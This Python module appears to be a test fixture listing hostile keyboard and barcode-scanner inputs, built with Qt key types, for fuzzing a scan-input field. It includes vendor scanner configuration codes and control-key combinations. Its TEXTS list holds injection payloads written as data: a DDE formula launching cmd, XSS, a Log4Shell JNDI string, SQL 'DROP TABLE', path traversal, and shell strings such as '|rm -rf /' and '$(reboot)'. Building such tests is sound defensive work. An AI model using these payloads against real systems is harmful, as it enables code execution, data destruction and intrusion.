"""Codes made to do harm through a keyboard: every control, every combination, and what scanners are configured with."""

from dataclasses import dataclass

from PySide6.QtCore import Qt

M = Qt.KeyboardModifier
NONE, CTRL, ALT, META, SHIFT = (
    M.NoModifier,
    M.ControlModifier,
    M.AltModifier,
    M.MetaModifier,
    M.ShiftModifier,
)


@dataclass(frozen=True)
class Press:
    """One key press inside a code."""

    key: Qt.Key
    text: str = ""
    held: Qt.KeyboardModifier = NONE


def _within(press: Press) -> tuple[str, Press, str]:
    return "SF1428", press, "300572951"


CONTROLS = {
    f"control {code:#04x}": _within(
        Press(Qt.Key(0x40 + code), chr(code), CTRL) if code < 0x20 else Press(Qt.Key.Key_unknown, chr(code))
    )
    for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))
    if chr(code) not in "\t\n\r"
}
COMBINATIONS = {
    f"{name}+{letter}": _within(Press(Qt.Key(ord(letter)), letter.lower() if held is not CTRL else "", held))
    for name, held in {
        "Ctrl": CTRL,
        "Alt": ALT,
        "Meta": META,
        "Ctrl+Alt": CTRL | ALT,
        "Ctrl+Shift": CTRL | SHIFT,
    }.items()
    for letter in "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    if (name, letter) not in {("Ctrl", "I"), ("Ctrl", "J"), ("Ctrl", "M")}  # Tab, line feed, return: they end a scan
}
ESCAPE = {f"Esc at {place}": (before, Press(Qt.Key.Key_Escape, "\x1b"), after) for place, before, after in (
    ("the beginning", "", "SF1428300572951"), ("the middle", "SF1428", "300572951"))}  # fmt: skip
KEYS = {
    f"{name}{key.name}": _within(Press(key, "", held))
    for name, held in (("", NONE), ("Alt+", ALT), ("Ctrl+", CTRL), ("Shift+", SHIFT))
    for key in (  # F4 beside Alt above all
        *(Qt.Key(Qt.Key.Key_F1 + n) for n in range(24)),
        Qt.Key.Key_Left, Qt.Key.Key_Right, Qt.Key.Key_Up, Qt.Key.Key_Down, Qt.Key.Key_Home, Qt.Key.Key_End,
        Qt.Key.Key_PageUp, Qt.Key.Key_PageDown, Qt.Key.Key_Insert, Qt.Key.Key_Delete, Qt.Key.Key_Menu, Qt.Key.Key_Print,
        Qt.Key.Key_Pause, Qt.Key.Key_Backtab, Qt.Key.Key_Help, Qt.Key.Key_Back, Qt.Key.Key_Close, Qt.Key.Key_Exit,
        Qt.Key.Key_PowerOff, Qt.Key.Key_Sleep, Qt.Key.Key_Refresh, Qt.Key.Key_Copy, Qt.Key.Key_Paste, Qt.Key.Key_Cut,
    )
}  # fmt: skip
TEXTS = (
    # what scanners are set up with: Honeywell, Zebra, Datalogic, Newland, Netum, Opticon
    "\x16M DEFALT.",
    "\x16M PAPHHF.",
    "<ParamF004>",
    "P110001",
    "$P,Ar",
    "@IDDPRP;",
    "NLS0006010;",
    "0006010",
    "%%SpecCode99",
    "%SET_PREFIX%",
    "@MENU_OPTO@ZZ@U2@ZZ@OTPO_UNEM@",
    "\x1bZZU2",
    # spreadsheets, markup, shells, queries, formats
    "=cmd|' /C calc'!A0",
    "+1+1+cmd",
    "-2+3+cmd|x",
    "@SUM(1+1)*cmd",
    "＝ＣＭＤ",
    '=HYPERLINK("http://x")',
    "%0D%0Aalert",
    "<img src=x onerror=alert(1)>",
    "<b>RELEASE</b>",
    "<a href='release'>",
    "<!--",
    "]]>]]>",
    "&amp;&lt;",
    "{0}{1}",
    "%s%n%x",
    "${jndi:ldap://x}",
    "'; DROP TABLE ledger;--",
    '" OR 1=1 --',
    "../../../etc/passwd",
    "C:\\Windows\\System32",
    "|rm -rf /",
    "`reboot`",
    "$(reboot)",
    "&& shutdown",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "http://x/?a=release",
    # letters that turn round, hide, or look alike
    "\u202eESAELER",
    "SF1428\u200b300",
    "\ufeffSF1428300",
    "ＳＦ１４２８３００",
    "SF１４２８３００",
    "ЅҒ1428300",
    "\U0001f4a3\U0001f4a3\U0001f4a3\U0001f4a3",
    "\u0301\u0301\u0301\u0301",
    "A" + "\u0300" * 200,
    "\x1d\x1d\x1d\x1d",
    "\x1e\x04\x1e\x04",
    "[)>\x1e06\x1d1T\x1e\x04",
    # words that mean something here
    "F5F5F5F5",
    "release",
    "RELEASE",
    "Enter",
    "yes yes",
    "1111",
    "ST*RELEASE*",
    "STATION:RELEASE",
    "-----",
    "0000000000000",
    # lengths
    "9" * 8200,
    "=" * 8200,
    "SF" * 3000,
    "Z" * 8200,
)
HOSTILE: dict[str, tuple[str, Press | None, str]] = {
    **CONTROLS,
    **COMBINATIONS,
    **ESCAPE,
    **KEYS,
    **{f"text {number}: {text[:24]!r}": (text, None, "") for number, text in enumerate(TEXTS)},
}
